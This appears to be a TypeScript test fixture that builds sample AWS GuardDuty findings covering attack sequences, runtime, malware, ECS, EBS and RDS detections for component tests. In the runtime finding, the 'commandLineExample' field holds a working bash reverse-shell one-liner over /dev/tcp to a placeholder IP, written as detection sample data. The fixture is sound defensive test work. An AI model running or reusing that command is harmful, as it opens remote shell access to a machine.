/**
 * Findings written for the component tests of the newer finding families (attack sequences,
 * runtime, malware, ECS and containers, EBS, RDS logins): one full example of each and one with
 * only the members GuardDuty's model requires. Shapes and wire names follow the vendored service
 * model; timestamps inside `service.detection`, `runtimeDetails` and scans are epoch seconds.
 * Test-only: nothing in the app imports this module.
 */
import type { Finding } from '../../guardduty';

const ACCOUNT = '111122223333';
const REGION = 'eu-west-1';
const DETECTOR = 'c6b0be64463ff852400d8ae5b2353866';
export const arnOf = (id: string) => `arn:aws:guardduty:${REGION}:${ACCOUNT}:detector/${DETECTOR}/finding/${id}`;

/** Epoch seconds: 2026-11-20 08:00:00 UTC and hours after it. */
const T0 = 1_795_161_600;
const at = (hours: number) => T0 + Math.round(hours * 3600);
const iso = (hours: number) => new Date(at(hours) * 1000).toISOString();

/** The members every finding must have (model: Finding.required). */
export function minimalFinding(id: string, type: string, extra: Partial<Finding> = {}): Finding {
  return {
    accountId: ACCOUNT,
    arn: arnOf(id),
    createdAt: iso(0),
    id,
    region: REGION,
    resource: {},
    schemaVersion: '2.0',
    severity: 5,
    type,
    updatedAt: iso(1),
    ...extra,
  };
}

export const SEQUENCE_ID = 'f1a0000000000000000000000000seq1';
export const MEMBER_IDS = ['f1a00000000000000000000000mem001', 'f1a00000000000000000000000mem002', 'f1a00000000000000000000000mem003'];

/**
 * A credential-compromise sequence: four signals given out of time order (the timeline sorts
 * them), tactics in GuardDuty's two spellings, two actors, two endpoints, two resources.
 */
export function fullSequenceFinding(): Finding {
  return minimalFinding(SEQUENCE_ID, 'AttackSequence:IAM/CompromisedCredentials', {
    title: 'Potential credential compromise of IAMUser/ci-deployer indicated by a sequence of actions.',
    description: 'A sequence of actions involving 4 signals indicating a possible credential compromise.',
    severity: 9.2,
    partition: 'aws',
    resource: { resourceType: 'AttackSequence' },
    service: {
      serviceName: 'guardduty',
      detectorId: DETECTOR,
      featureName: 'Correlation',
      resourceRole: 'TARGET',
      archived: false,
      count: 1,
      eventFirstSeen: iso(0),
      eventLastSeen: iso(30),
      detection: {
        sequence: {
          uid: 'seq-7d1e5c2a-0b1f-4c57-9d0e-2b1d7a9e4c11',
          description: 'Credentials of ci-deployer were used from a Tor exit node to disable logging and copy data.',
          additionalSequenceTypes: ['AttackSequence:S3/CompromisedData'],
          actors: [
            {
              id: 'actor-1',
              user: { name: 'ci-deployer', uid: 'AIDAEXAMPLEUSER00001', type: 'IAMUser', credentialUid: 'AKIAEXAMPLEKEY000001', account: { uid: ACCOUNT, account: 'production' } },
              session: { uid: 'session-9f3', mfaStatus: 'DISABLED', createdTime: at(-0.5), issuer: `arn:aws:iam::${ACCOUNT}:user/ci-deployer` },
            },
            { id: 'actor-2', process: { name: 'aws-cli', path: '/usr/local/bin/aws', sha256: 'a3f5c0e1d2b4a6c8e0f1a2b3c4d5e6f7a8b9c0d1e2f3a4b5c6d7e8f9a0b1c2d3' } },
          ],
          endpoints: [
            {
              id: 'endpoint-1',
              ip: '198.51.100.23',
              port: 443,
              location: { city: 'Frankfurt am Main', country: 'Germany', lat: 50.11, lon: 8.68 },
              autonomousSystem: { name: 'Example Transit GmbH', number: 64500 },
              connection: { direction: 'INBOUND' },
            },
            { id: 'endpoint-2', domain: 'exfil.example.net', ip: '203.0.113.77', location: { city: 'São Paulo', country: 'Brazil', lat: -23.55, lon: -46.63 } },
          ],
          resources: [
            { uid: `arn:aws:iam::${ACCOUNT}:user/ci-deployer`, name: 'ci-deployer', resourceType: 'ACCESS_KEY', accountId: ACCOUNT, region: REGION, service: 'IAM', tags: [{ key: 'team', value: 'platform' }] },
            { uid: 'arn:aws:s3:::billing-exports', name: 'billing-exports', resourceType: 'S3_BUCKET', accountId: ACCOUNT, region: REGION, data: { s3Bucket: { encryptionType: 'SSE-S3', publicReadAccess: 'NOT_ALLOWED' } } },
          ],
          sequenceIndicators: [
            { key: 'ATTACK_TACTIC', values: ['Impact', 'DefenseEvasion', 'Discovery', 'Initial Access'], title: 'MITRE ATT&CK tactics' },
            { key: 'ATTACK_TECHNIQUE', values: ['T1562.008 - Impair Defenses: Disable or Modify Cloud Logs', 'T1078.004 - Valid Accounts: Cloud Accounts', 'T1530'] },
            { key: 'TOR_IP', values: ['198.51.100.23'] },
            { key: 'HIGH_RISK_API', values: ['cloudtrail:DeleteTrail', 'iam:ListUsers'] },
          ],
          signals: [
            {
              uid: arnOf(MEMBER_IDS[2]),
              type: 'FINDING',
              name: 'Exfiltration:S3/AnomalousBehavior',
              description: 'Objects were read from billing-exports in an unusual volume.',
              createdAt: at(29),
              updatedAt: at(30),
              firstSeenAt: at(28),
              lastSeenAt: at(30),
              severity: 8,
              count: 412,
              resourceUids: ['arn:aws:s3:::billing-exports'],
              endpointIds: ['endpoint-2'],
              signalIndicators: [{ key: 'ATTACK_TACTIC', values: ['Exfiltration'] }, { key: 'ATTACK_TECHNIQUE', values: ['T1530'] }],
            },
            {
              uid: arnOf(MEMBER_IDS[0]),
              type: 'FINDING',
              name: 'InitialAccess:IAMUser/AnomalousBehavior',
              description: 'The user signed in from a Tor exit node.',
              createdAt: at(0.2),
              updatedAt: at(0.3),
              firstSeenAt: at(0),
              lastSeenAt: at(0.1),
              severity: 5,
              count: 1,
              actorIds: ['actor-1'],
              endpointIds: ['endpoint-1'],
              signalIndicators: [{ key: 'ATTACK_TACTIC', values: ['Initial Access'] }, { key: 'ATTACK_TECHNIQUE', values: ['T1078.004'] }],
            },
            {
              uid: 'cloudtrail-event-3b1d',
              type: 'CLOUD_TRAIL',
              name: 'cloudtrail:DeleteTrail',
              createdAt: at(2.1),
              updatedAt: at(2.1),
              firstSeenAt: at(2),
              lastSeenAt: at(2),
              severity: 7.5,
              count: 1,
              actorIds: ['actor-2'],
              signalIndicators: [{ key: 'ATTACK_TACTIC', values: ['DefenseEvasion'] }, { key: 'ATTACK_TECHNIQUE', values: ['T1562.008'] }],
            },
            {
              uid: arnOf(MEMBER_IDS[1]),
              type: 'FINDING',
              name: 'Discovery:IAMUser/AnomalousBehavior',
              createdAt: at(1.2),
              updatedAt: at(1.3),
              firstSeenAt: at(1),
              lastSeenAt: at(1.5),
              severity: 2,
              count: 17,
              signalIndicators: [{ key: 'ATTACK_TACTIC', values: ['Discovery'] }],
            },
          ],
        },
      },
    },
  });
}

/** A sequence with only the required members of the finding, the sequence and each signal. */
export function minimalSequenceFinding(): Finding {
  return minimalFinding('f1a0000000000000000000000000seq0', 'AttackSequence:EKS/CompromisedCluster', {
    service: {
      detection: {
        sequence: {
          uid: 'seq-minimal',
          description: 'Minimal sequence.',
          signals: [{ uid: 'signal-1', type: 'EKS_AUDIT_LOGS', name: 'kubectl exec', createdAt: at(1), updatedAt: at(1), firstSeenAt: at(1), lastSeenAt: at(1), count: 1 }],
        },
      },
    },
  });
}

/** A member finding of the full sequence. */
export function memberFinding(index = 0): Finding {
  const names = ['InitialAccess:IAMUser/AnomalousBehavior', 'Discovery:IAMUser/AnomalousBehavior', 'Exfiltration:S3/AnomalousBehavior'];
  return minimalFinding(MEMBER_IDS[index], names[index], {
    title: `Member finding ${index + 1} of the sequence`,
    severity: [5, 2, 8][index],
    associatedAttackSequenceArn: arnOf(SEQUENCE_ID),
    service: { eventFirstSeen: iso(index), eventLastSeen: iso(index + 1), count: 1 },
  });
}

/** Runtime Monitoring: a reverse shell started by a web server, with its lineage. */
export function runtimeFinding(): Finding {
  return minimalFinding('f1a000000000000000000000runtime1', 'Execution:Runtime/ReverseShell', {
    title: 'A process on a container opened a reverse shell.',
    severity: 8,
    resource: { resourceType: 'Container', containerDetails: { containerRuntime: 'containerd', id: 'c0ffee0123', name: 'web', image: '123456789012.dkr.ecr.eu-west-1.amazonaws.com/web:1.4.2', imagePrefix: '123456789012.dkr.ecr' } },
    service: {
      featureName: 'RuntimeMonitoring',
      runtimeDetails: {
        process: {
          name: 'bash',
          executablePath: '/usr/bin/bash',
          executableSha256: '5a1c9d3e7f0b2c4d6e8f0a1b2c3d4e5f60718293a4b5c6d7e8f90a1b2c3d4e5f',
          pid: 31337,
          namespacePid: 88,
          pwd: '/var/www/html',
          startTime: at(2),
          uuid: 'proc-3',
          parentUuid: 'proc-2',
          user: 'www-data',
          userId: 33,
          euid: 33,
          lineage: [
            { name: 'sh', pid: 31300, namespacePid: 80, uuid: 'proc-2', parentUuid: 'proc-1', executablePath: '/bin/sh', startTime: at(1.9), userId: 33, euid: 33 },
            { name: 'php-fpm', pid: 1200, namespacePid: 12, uuid: 'proc-1', parentUuid: 'proc-0', executablePath: '/usr/sbin/php-fpm8.2', startTime: at(-100), userId: 0, euid: 33 },
            { name: 'containerd-shim', pid: 900, uuid: 'proc-0', executablePath: '/usr/bin/containerd-shim-runc-v2', startTime: at(-200), userId: 0, euid: 0 },
          ],
        },
        context: {
          commandLineExample: 'bash -c "exec 5<>/dev/tcp/198.51.100.23/4444; cat <&5 | while read line; do $line 2>&5 >&5; done"',
          addressFamily: 'AF_INET',
          ianaProtocolNumber: 6,
          modifiedAt: at(2),
          flags: ['O_RDWR'],
        },
      },
    },
  });
}

export function minimalRuntimeFinding(): Finding {
  return minimalFinding('f1a000000000000000000000runtime0', 'Execution:Runtime/NewBinaryExecuted', { service: { runtimeDetails: {} } });
}

/** Malware Protection for EC2: a GuardDuty-initiated scan of two volumes, one skipped. */
export function ebsMalwareFinding(): Finding {
  return minimalFinding('f1a00000000000000000000malware01', 'Execution:EC2/MaliciousFile', {
    title: 'A malicious file was found on EC2 instance i-0abc.',
    severity: 8,
    resource: {
      resourceType: 'Instance',
      ebsVolumeDetails: {
        scannedVolumeDetails: [{ volumeArn: `arn:aws:ec2:${REGION}:${ACCOUNT}:volume/vol-0aa11`, volumeType: 'gp3', deviceName: '/dev/xvda', volumeSizeInGB: 30, encryptionType: 'UNENCRYPTED', snapshotArn: `arn:aws:ec2:${REGION}:${ACCOUNT}:snapshot/snap-0aa11` }],
        skippedVolumeDetails: [{ volumeArn: `arn:aws:ec2:${REGION}:${ACCOUNT}:volume/vol-0bb22`, volumeType: 'io2', deviceName: '/dev/sdf', volumeSizeInGB: 2048, encryptionType: 'CMK', kmsKeyArn: `arn:aws:kms:${REGION}:${ACCOUNT}:key/1234abcd-12ab-34cd-56ef-1234567890ab` }],
      },
    },
    service: {
      featureName: 'EbsMalwareProtection',
      ebsVolumeScanDetails: {
        scanId: 'scan-0f1e2d3c4b5a',
        scanStartedAt: at(3),
        scanCompletedAt: at(3.4),
        triggerFindingId: 'f1a00000000000000000000trigger01',
        sources: ['Bitdefender', 'Amazon'],
        scanType: 'GUARDDUTY_INITIATED',
        scanDetections: {
          scannedItemCount: { totalGb: 30, files: 120344, volumes: 1 },
          threatsDetectedItemCount: { files: 2 },
          highestSeverityThreatDetails: { severity: 'HIGH', threatName: 'Trojan.Linux.Miner', count: 2 },
          threatDetectedByName: {
            itemCount: 2,
            uniqueThreatNameCount: 1,
            shortened: false,
            threatNames: [
              {
                name: 'Trojan.Linux.Miner',
                severity: 'HIGH',
                itemCount: 2,
                filePaths: [
                  { filePath: '/tmp/.x/kworker', fileName: 'kworker', hash: '9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08', volumeArn: `arn:aws:ec2:${REGION}:${ACCOUNT}:volume/vol-0aa11` },
                  { filePath: '/var/lib/docker/overlay2/9a1/diff/usr/bin/xmr', fileName: 'xmr', hash: '60303ae22b998861bce3b28f33eec1be758a213c86c93c076dbe9f558c11c752', volumeArn: `arn:aws:ec2:${REGION}:${ACCOUNT}:volume/vol-0aa11` },
                ],
              },
            ],
          },
        },
      },
    },
  });
}

/** Malware Protection for S3: an object scan (newer `malwareScanDetails`). */
export function s3MalwareFinding(): Finding {
  return minimalFinding('f1a00000000000000000000malware02', 'Object:S3/MaliciousFile', {
    severity: 8,
    resource: { resourceType: 'S3Object' },
    service: {
      featureName: 'S3MalwareProtection',
      malwareScanDetails: {
        scanId: 'scan-s3-77',
        scanType: 'ON_DEMAND',
        scanCategory: 'FULL_SCAN',
        uniqueThreatCount: 1,
        scanConfiguration: { triggerType: 'GUARDDUTY' },
        threats: [
          {
            name: 'EICAR-Test-File',
            source: 'Amazon',
            count: 1,
            hash: '275a021bbfb6489e54d471899f7db9d1663fc695ec2fe2a2c4538aabf651fd0f',
            itemPaths: [{ nestedItemPath: 'uploads/archive.zip/eicar.com', hash: '275a021bbfb6489e54d471899f7db9d1663fc695ec2fe2a2c4538aabf651fd0f' }],
            itemDetails: [{ resourceArn: 'arn:aws:s3:::customer-uploads/archive.zip', itemPath: 'uploads/archive.zip', hash: '131f95c51cc819465fa1797f6ccacf9d494aaaff46fa3eac73ae63ffbdfd8267', additionalInfo: { versionId: '3HL4kqtJlcpXroDTDmJ.rmSpXd3dIbrHY' } }],
          },
        ],
      },
    },
  });
}

export function minimalMalwareFinding(): Finding {
  return minimalFinding('f1a00000000000000000000malware00', 'Execution:EC2/MaliciousFile', { service: { ebsVolumeScanDetails: {}, malwareScanDetails: {} } });
}

/** An ECS cluster with a task and a privileged container. */
export function ecsFinding(): Finding {
  return minimalFinding('f1a0000000000000000000000000ecs1', 'PrivilegeEscalation:Runtime/ContainerMountsHostDirectory', {
    severity: 7,
    resource: {
      resourceType: 'ECSCluster',
      ecsClusterDetails: {
        name: 'payments',
        arn: `arn:aws:ecs:${REGION}:${ACCOUNT}:cluster/payments`,
        status: 'ACTIVE',
        activeServicesCount: 4,
        registeredContainerInstancesCount: 6,
        runningTasksCount: 21,
        tags: [{ key: 'env', value: 'prod' }],
        taskDetails: {
          arn: `arn:aws:ecs:${REGION}:${ACCOUNT}:task/payments/0d2f`,
          definitionArn: `arn:aws:ecs:${REGION}:${ACCOUNT}:task-definition/api:42`,
          version: '42',
          createdAt: at(-5),
          startedAt: at(-4.9),
          startedBy: 'ecs-svc/1234567890',
          group: 'service:api',
          launchType: 'EC2',
          volumes: [{ name: 'host-root', hostPath: { path: '/' } }],
          containers: [
            { name: 'api', image: 'public.ecr.aws/example/api:2.1', id: 'c-1', containerRuntime: 'docker', securityContext: { privileged: true, allowPrivilegeEscalation: true }, volumeMounts: [{ name: 'host-root', mountPath: '/host' }] },
            { name: 'sidecar', image: 'public.ecr.aws/example/envoy:1.30', securityContext: { privileged: false } },
          ],
        },
      },
    },
  });
}

export function minimalEcsFinding(): Finding {
  return minimalFinding('f1a0000000000000000000000000ecs0', 'Execution:Runtime/NewBinaryExecuted', { resource: { ecsClusterDetails: {}, containerDetails: {} } });
}

/** An EBS snapshot finding (volumes are in ebsMalwareFinding). */
export function ebsSnapshotFinding(): Finding {
  return minimalFinding('f1a00000000000000000000snapshot1', 'Execution:EC2/MaliciousFile.Snapshot', {
    resource: { resourceType: 'EBSSnapshot', ebsSnapshotDetails: { snapshotArn: `arn:aws:ec2:${REGION}:${ACCOUNT}:snapshot/snap-0cc33` } },
  });
}

export function minimalEbsFinding(): Finding {
  return minimalFinding('f1a000000000000000000000000ebs00', 'Execution:EC2/MaliciousFile', { resource: { ebsVolumeDetails: {}, ebsSnapshotDetails: {} } });
}

/** RDS Protection: failed logins from one client, then a success (the model's wire name `LoginAttributes`). */
export function rdsFinding(): Finding {
  return minimalFinding('f1a0000000000000000000000000rds1', 'CredentialAccess:RDS/AnomalousBehavior.SuccessfulBruteForce', {
    severity: 8,
    resource: {
      resourceType: 'RDSDBInstance',
      rdsDbInstanceDetails: { dbInstanceIdentifier: 'orders-db-1', engine: 'aurora-postgresql', engineVersion: '15.4', dbClusterIdentifier: 'orders', dbInstanceArn: `arn:aws:rds:${REGION}:${ACCOUNT}:db:orders-db-1` },
      rdsDbUserDetails: { user: 'app_rw', application: 'psql', database: 'orders', ssl: 'true', authMethod: 'PASSWORD' },
    },
    service: {
      action: {
        actionType: 'RDS_LOGIN_ATTEMPT',
        rdsLoginAttemptAction: {
          remoteIpDetails: { ipAddressV4: '192.0.2.44', country: { countryName: 'Netherlands' }, organization: { asn: '64501', asnOrg: 'Example Hosting', isp: 'Example Hosting', org: 'Example Hosting' } },
          LoginAttributes: [
            { user: 'app_rw', application: 'psql', failedLoginAttempts: 212, successfulLoginAttempts: 1 },
            { user: 'postgres', application: 'psql', failedLoginAttempts: 57, successfulLoginAttempts: 0 },
          ],
        },
      },
    },
  });
}

export function minimalRdsFinding(): Finding {
  return minimalFinding('f1a0000000000000000000000000rds0', 'CredentialAccess:RDS/AnomalousBehavior.FailedLogin', {
    resource: { rdsDbUserDetails: {} },
    service: { action: { actionType: 'RDS_LOGIN_ATTEMPT', rdsLoginAttemptAction: {} } },
  });
}
